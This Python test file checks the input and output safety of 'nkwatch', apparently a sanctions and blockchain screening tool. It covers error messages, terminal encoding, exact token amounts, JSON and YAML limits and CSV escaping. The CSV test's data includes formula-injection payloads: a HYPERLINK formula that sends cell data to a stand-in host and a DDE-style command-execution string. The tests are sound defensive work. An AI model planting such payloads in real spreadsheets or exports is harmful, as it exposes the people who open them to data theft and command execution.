"""The error boundary's parts: internal errors, ASCII terminals, exact amounts, limits, cells."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import click
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from nkwatch.boundary import (
    UINT256_MAX,
    csv_cell,
    exact_units,
    load_json,
    load_yaml,
    one_line,
    parse_int,
)
from nkwatch.clitools import NkwatchGroup
from nkwatch.errors import UserError
from nkwatch.store import Store
from nkwatch.trace.importers import import_files

REPO = Path(__file__).resolve().parents[2]


@click.group(cls=NkwatchGroup)
def _demo() -> None:
    pass


@_demo.command()
def crash() -> None:
    raise KeyError("/secret/path/in/traceback")


def test_a_bug_is_one_line_with_a_ref_and_the_traceback_goes_to_the_log(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("NKWATCH_LOG_DIR", str(tmp_path))
    result = CliRunner().invoke(_demo, ["crash"])
    assert result.exit_code == 70
    lines = result.output.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("nkwatch: internal error (ref ")
    assert "Traceback" not in result.output
    ref = lines[0].split("(ref ")[1].split(")")[0]
    log = (tmp_path / f"{ref}.log").read_text()
    assert "Traceback" in log and "KeyError" in log and "in crash" in log
    assert oct((tmp_path / f"{ref}.log").stat().st_mode & 0o777) == "0o600"


def _nkwatch(*args: str, env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "nkwatch", *args],
        capture_output=True,
        text=True,
        encoding="ascii",
        errors="backslashreplace",
        env={**os.environ, "PYTHONPATH": str(REPO / "src"), **env},
        timeout=120,
        check=False,
    )


def test_an_ascii_terminal_never_crashes_printing(tmp_path: Path, bundled_store: Path) -> None:
    """Under LC_ALL=C with UTF-8 mode off: a Cyrillic look-alike address is one line, exit 2,
    and a Hangul query still reaches the matcher and prints its (non-ASCII) result."""
    db = tmp_path / "s.duckdb"
    shutil.copyfile(bundled_store, db)
    env = {"LC_ALL": "C", "PYTHONUTF8": "0", "PYTHONIOENCODING": "ascii", "HOME": str(tmp_path)}
    lookalike = "0x098B716B8\u0410af21512996dC57EB0615e2383E2f96"
    out = _nkwatch("screen", "address", lookalike, "--db", str(db), env=env)
    assert out.returncode == 2, out.stderr
    assert out.stderr.count("\n") == 1 and "Traceback" not in out.stderr
    assert "CYRILLIC CAPITAL LETTER A" in out.stderr
    out = _nkwatch("screen", "name", "\uae40\uc815\uc740", "--json", "--db", str(db), env=env)
    assert out.returncode == 3, out.stderr  # a hit: Kim Jong Un
    assert "Traceback" not in out.stderr and "KIM" in out.stdout.upper()


def test_ansi_escapes_in_messages_are_neutralised() -> None:
    assert one_line("bad \x1b[2J\nname\u202e") == "bad \\x1b[2J\\x0aname\\u202e"
    assert one_line("x" * 5000, 10).startswith("xxxxxxxxxx... (4990 more")


@given(st.integers(min_value=0, max_value=UINT256_MAX), st.integers(min_value=0, max_value=30))
@settings(max_examples=300, deadline=None)
def test_amounts_are_exact_at_any_size_up_to_2_256(value: int, decimals: int) -> None:
    text = str(value)
    whole = text[:-decimals] or "0" if decimals else text
    frac = text[-decimals:].rjust(decimals, "0") if decimals else ""
    written = f"{whole}.{frac}" if frac else whole
    assert exact_units(written, decimals, where="t") == value


def test_amounts_never_round_and_name_what_they_refuse() -> None:
    assert exact_units("1234567890123456789012345678901", 0, where="t") == (
        1234567890123456789012345678901
    )
    assert exact_units("1.5e3", 0, where="t") == 1500
    with pytest.raises(UserError, match="more than 2 decimals"):
        exact_units("1.001", 2, where="t")
    with pytest.raises(UserError, match="above the largest amount kept exactly"):
        exact_units(str(2**256), 0, where="t")
    with pytest.raises(UserError, match="limit decimal_exponent"):
        exact_units("1e999999999", 0, where="t")
    with pytest.raises(UserError, match="not a number"):
        exact_units("\u0661\u0662", 0, where="t")
    with pytest.raises(UserError, match="non-negative integer"):
        parse_int("\uff11", where="t", what="block")


def test_import_keeps_31_digit_amounts_exactly_and_refuses_what_the_store_cannot_hold(
    store: Store, tmp_path: Path
) -> None:
    header = "hash,block_number,from_address,to_address,value,block_timestamp\n"
    a, b = "0x" + "ab" * 20, "0x" + "cd" * 20
    path = tmp_path / "transactions.csv"
    big = 1234567890123456789012345678901
    path.write_text(header + f"0x{'11' * 32},100,{a},{b},{big},1700000000\n")
    import_files(store, "ethereum-etl", [path])
    assert store.query("SELECT CAST(amount AS VARCHAR) FROM trace_transfers") == [(str(big),)]
    path.write_text(header + f"0x{'22' * 32},100,{a},{b},{2**127},1700000000\n")
    with pytest.raises(UserError, match=r"amount: transfer 0x2222.* above the largest the store"):
        import_files(store, "ethereum-etl", [path])
    assert store.query("SELECT count(*) FROM trace_transfers") == [(1,)]


def test_json_and_yaml_limits_are_named() -> None:
    with pytest.raises(UserError, match="json_depth"):
        load_json("[" * 100 + "]" * 100, where="f")
    with pytest.raises(UserError, match="json_depth"):
        load_json("[" * 50_000 + "]" * 50_000, where="f")
    with pytest.raises(UserError, match="integer_digits"):
        load_json('{"v": ' + "9" * 5000 + "}", where="f")
    with pytest.raises(UserError, match="aliases are refused"):
        load_yaml("a: &a [1, 2]\nb: [*a, *a]\n", where="f")
    assert load_yaml("a: '2*3'\nb: [1, 2]\n", where="f") == {"a": "2*3", "b": [1, 2]}


@pytest.mark.parametrize(
    ("cell", "shown"),
    [
        ('=HYPERLINK("http://x/?"&A1)', '\'=HYPERLINK("http://x/?"&A1)'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-1.5", "-1.5"),
        ("-x", "'-x"),
        ("Kim Jong Un", "Kim Jong Un"),
        (3, 3),
    ],
)
def test_csv_cells_are_safe_from_formula_injection(cell: object, shown: object) -> None:
    assert csv_cell(cell) == shown
